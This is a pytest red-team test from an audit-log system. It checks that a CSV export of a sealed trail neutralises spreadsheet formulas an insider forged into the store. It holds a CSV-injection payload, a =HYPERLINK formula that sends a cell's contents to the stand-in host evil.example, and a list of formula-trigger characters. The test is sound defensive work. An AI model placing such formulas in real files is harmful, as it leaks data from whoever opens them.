"""Red team 26, as the database insider (INSERT on the audit store), against the officers
who open the sealed trail's evidence in a spreadsheet.

The CSV export defuses a formula only in its display cells (time, type, actor,
outcome): the record column "keeps the event exactly", and the seq, prev_hash and hash
columns are written as the store holds them. The insider appends a row whose body is
not JSON at all but a spreadsheet formula (red team 18's body no gateway wrote), and
whose hashes are formulas too; the gateway refuses to chain onto it and seals, and the
officers take the CSV export — the evidence the unseal asks for — and open it. Before:
``=HYPERLINK(...)`` in the record and hash cells, evaluated by the spreadsheet (OWASP
CSV injection), in the very file two people must read to lift the seal.

Rule: no cell of a CSV export that a spreadsheet would evaluate. A JSON body never
starts with a formula character, so the record of every event a gateway wrote is kept
exactly and still verifies; what is defused is only a body or hash no gateway wrote.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest

from audit.events import prepare
from audit.export import verify_export
from audit.log import AuditLog
from audit.records import Actor, user_admin_event
from tests.attacks.deployments import KINDS, open_deployment
from tests.attacks.test_redteam3_insider_forged_append import (
    _carry_on,
    _insert_as_runtime_role,
    _make_insider_role,
    _quiet_head,
    _read_trail,
)
from tests.gateway.demo_app import DemoGateway

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"open the evidence")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(params=KINDS)
def fresh(request: pytest.FixtureRequest, tmp_path: Path) -> Iterator[DemoGateway]:
    with open_deployment(request.param, tmp_path / "home", db_prefix="sluice_rt26_csv") as gw:
        yield gw


def _pinned(gw: DemoGateway) -> set[str]:
    log = gw.services.audit
    assert isinstance(log, AuditLog)
    return set(log.signer.public_keys())


def _forge_formula(gw: DemoGateway) -> int:
    _make_insider_role(gw)
    _read_trail(gw)
    seq, _head = _quiet_head(gw)
    index = prepare(user_admin_event(type_="role.assigned", actor=Actor("root", None, ("admin",)),
                                     subject="alice", details={"role": "admin"})).index  # fmt: skip
    _insert_as_runtime_role(gw, (seq + 1, "+" + "0" * 63, "@" + "0" * 63, FORMULA, None, *index))
    _carry_on(gw)
    return seq + 1


def test_the_csv_evidence_of_a_sealed_trail_has_no_formula_cell(fresh: DemoGateway) -> None:
    gw = fresh
    forged = _forge_formula(gw)
    assert gw.client.get("/healthz").json().get("sealed"), "the forgery did not seal the trail"
    export = gw.client.get("/api/v1/audit/export?format=csv", headers=gw.headers("sam"))
    assert export.status_code == 200, export.text
    rows = list(csv.reader(io.StringIO(export.content.decode("utf-8"), newline="")))
    evaluated = [(r[1], i, cell) for r in rows for i, cell in enumerate(r)
                 if cell.startswith(STARTS)]  # fmt: skip
    assert not evaluated, f"cells a spreadsheet evaluates (seq, column, text): {evaluated}"
    assert any(r[1] == str(forged) and FORMULA in r[-1] for r in rows), "the evidence lost it"
    # still evidence of a broken trail, not a verified one
    outcome = verify_export(export.content, trusted_kids=_pinned(gw))
    assert not outcome.ok


def test_a_gateways_events_keep_their_records_exactly_in_csv(fresh: DemoGateway) -> None:
    gw = fresh
    _read_trail(gw)
    export = gw.client.get("/api/v1/audit/export?format=csv", headers=gw.headers("sam"))
    assert export.status_code == 200, export.text
    outcome = verify_export(export.content, trusted_kids=_pinned(gw))
    assert outcome.ok, outcome
